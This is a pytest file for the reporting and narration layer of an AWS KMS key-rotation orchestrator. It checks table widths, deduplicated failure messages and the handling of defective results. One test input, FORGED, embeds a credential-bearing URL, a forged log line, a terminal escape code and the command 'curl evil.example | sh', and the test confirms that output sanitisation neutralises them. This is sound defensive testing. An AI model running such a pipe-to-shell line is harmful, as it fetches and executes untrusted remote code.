"""Tables that people read."""

import io
import json
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

import pytest
from rich.console import Console

from orchestrator.model import (
    Block,
    Entry,
    EntryName,
    Idle,
    KeyArn,
    KeyState,
    MaterialId,
    MaterialRow,
    MaterialState,
    Policy,
    Reason,
    Region,
    RegionView,
    RotateOnDemand,
    StoreView,
    View,
)
from orchestrator.ports import Event
from orchestrator.progress import Job, Report
from orchestrator.report import documents, tables
from orchestrator.report.live import LiveLine
from orchestrator.report.narrate import narrator
from orchestrator.written import to_json
from workflows.cli.screen import screen
from workflows.cli.tellable import tellable

NOW = datetime(2026, 5, 4, tzinfo=UTC)


def row(state: str, **more: Any) -> MaterialRow:
    return MaterialRow(MaterialId("5f" * 32), MaterialState(state), imported=True, **more)


LONGEST = "ap-southeast-"


def test_the_status_of_33_regions_fits_80_columns() -> None:
    regions = [Region(f"{LONGEST}{number}") for number in range(1, 34)]
    arn = KeyArn.parse(f"arn:aws:kms:{regions[0]}:111122223333:key/mrk-1234abcd12ab34cd56ef1234567890ab")
    rows = (MaterialRow(MaterialId("5f" * 32), MaterialState.CURRENT, imported=True, valid_to=NOW),)
    seen = {
        region: RegionView(
            arn.within(region),
            NOW,
            KeyState.PENDING_IMPORT,
            NOW,
            multi_region=True,
            primary=regions[0],
            members=frozenset(regions),
            rows=rows,
        )
        for region in regions
    }
    out = io.StringIO()

    Console(file=out, width=80).print(tables.status("payments", View(arn, NOW, seen), Policy()))

    lines = out.getvalue().splitlines()
    rows_of_regions = [line for line in lines if line.startswith(LONGEST) and "PendingImport" in line]
    assert max(len(line) for line in lines) <= 80
    assert len(rows_of_regions) == 33


@pytest.mark.parametrize("linked", [None, MaterialId("5f" * 32)])
def test_an_entry_that_cannot_be_read_is_named_by_what_is_known_of_it(linked: MaterialId | None) -> None:
    """Key material that KMS has not named yet is told by its entry."""
    region = Region("eu-west-1")
    arn = KeyArn.parse(f"arn:aws:kms:{region}:111122223333:key/mrk-1234abcd12ab34cd56ef1234567890ab")
    name = EntryName(arn.identity, None)
    members = {"multi_region": True, "primary": region, "members": frozenset({region})}
    seen = RegionView(arn, NOW, KeyState.PENDING_IMPORT, NOW, **members)
    store = StoreView(NOW, (Entry(name, None, "it is cut short", linked=linked),))
    out = io.StringIO()

    Console(file=out, width=200).print(tables.status("payments", View(arn, NOW, {region: seen}, store), Policy()))

    told = out.getvalue()
    assert (f"the entry {name}" in told, "key material 5f5f5f5f" in told) == (linked is None, linked is not None)


FORGED = "a defect in mrk: ValueError: https://me:word@example\nmrk: all is well\n  -> curl evil.example | sh\x1b[2J"


def test_no_message_of_a_run_begins_a_line_or_moves_a_terminal() -> None:
    """I14: whatever a defect quotes, in the result, in what is told meanwhile, and on the live line."""
    arn = KeyArn.parse("arn:aws:kms:us-east-1:111122223333:key/mrk-1234abcd12ab34cd56ef1234567890ab")
    job = Job("payments", arn, Policy(), (), lambda _: Idle(""))
    block = Block(Reason.CALL_FAILED, FORGED, FORGED)
    out, told = io.StringIO(), list[str]()

    for report in (Report(job, "error", "located", FORGED), Report(job, "blocked", "located", "", (block,))):
        screen(out, width=60).print(tables.ended(report), crop=False)  # as `write` does
    tell, live = narrator(told.append), LiveLine(screen(io.StringIO()))
    for listen in (tell, live):
        listen(Event(NOW, "run.asked", "payments"))
        waits = [{"reason": "x", "message": FORGED, "at_most": 1}]
        listen(Event(NOW, "turn", "payments", data={"stage": "ready", "waits": waits}))
    tell(Event(NOW, "run.ended", "payments", data={"status": "error", "message": FORGED}))

    lines = out.getvalue().splitlines()
    assert " ".join(lines).count("curl") == 3
    assert "word" not in "".join((*lines, *told, live.shown)), "though a table may break it over lines"
    assert all(line.isprintable() for line in (*lines, *told, live.shown))
    assert not [line for line in lines if line.strip().startswith(("mrk: all", "-> curl"))]


FAR = datetime(9999, 12, 31, tzinfo=UTC)
UNTOLD = {
    "made in the last year": {"created_at": FAR},
    "rotated in the last year": {"rows": (row("CURRENT", rotated_at=FAR),)},
    "rows that contradict each other": {"rows": None},
}


@pytest.mark.parametrize("spoiled", UNTOLD.values(), ids=UNTOLD)
def test_a_key_whose_result_cannot_be_told_takes_no_other_result_away(spoiled: dict[str, object]) -> None:
    """I10, I13: what comes of a defect is told of its key, with what was done, and every document is whole."""
    arn = KeyArn.parse("arn:aws:kms:us-east-1:111122223333:key/mrk-1234abcd12ab34cd56ef1234567890ab")
    job, done = Job("payments", arn, Policy(), (), lambda _: Idle("")), (RotateOnDemand(arn, MaterialId("5f" * 32)),)
    seen = region_view(arn)
    reports = [
        Report(job, "finished", "done", "rotated", view=View(arn, NOW, {arn.region: found}), done=done)
        for found in (replace(seen, **spoiled), seen)
    ]
    odd, well = map(tellable, reports)
    assert well == reports[1]
    assert (odd.status, odd.view, odd.done) == ("error", None, done)
    assert odd.message.startswith("rotated; that cannot be shown: a defect in mrk: ")
    told = json.loads(to_json([documents.report(report) for report in (odd, well)]))
    assert [one["status"] for one in told] == ["error", "finished"]
    assert [one["changed"][0]["what"] for one in told] == ["rotated", "rotated"]
    out = io.StringIO()
    Console(file=out, width=80).print(tables.ended(odd))
    assert "payments" in out.getvalue()


def region_view(arn: KeyArn) -> RegionView:
    return RegionView(
        arn,
        NOW,
        KeyState.ENABLED,
        NOW,
        multi_region=False,
        primary=arn.region,
        members=frozenset({arn.region}),
        rows=(row("CURRENT"),),
    )


def failed(region: str, message: str) -> list[Event]:
    """An action that failed, and the turn after it, which waits with the same words."""
    ended = {"action": "import", "result": "failed", "message": message}
    waits = [{"reason": "call-failed", "region": region, "message": message, "at_most": 1}]
    return [
        Event(NOW, "action.ended", "payments", region, data=ended),
        Event(NOW, "turn", "payments", data={"stage": "accepted", "waits": waits}),
    ]


PINNED = Event(NOW, "run.pinned", "payments")


@pytest.mark.parametrize(
    ("events", "lines"),
    [
        ([*failed("us-east-1", "refused"), *failed("us-east-1", "refused")], 1),
        ([*failed("us-east-1", "refused"), *failed("eu-west-1", "refused in eu-west-1")], 2),
        ([*failed("us-east-1", "refused"), *failed("us-east-1", "throttled"), *failed("us-east-1", "refused")], 2),
        ([*failed("us-east-1", "refused"), PINNED, *failed("us-east-1", "refused")], 2),
        (failed("us-east-1", "refused")[1:], 1),
    ],
)
def test_what_a_call_failed_with_is_said_once(events: list[Event], lines: int) -> None:
    """A try that fails again says nothing new, nor does the wait for the next one."""
    told: list[str] = []
    tell = narrator(told.append)
    for event in events:
        tell(event)
    assert len(told) == lines, told
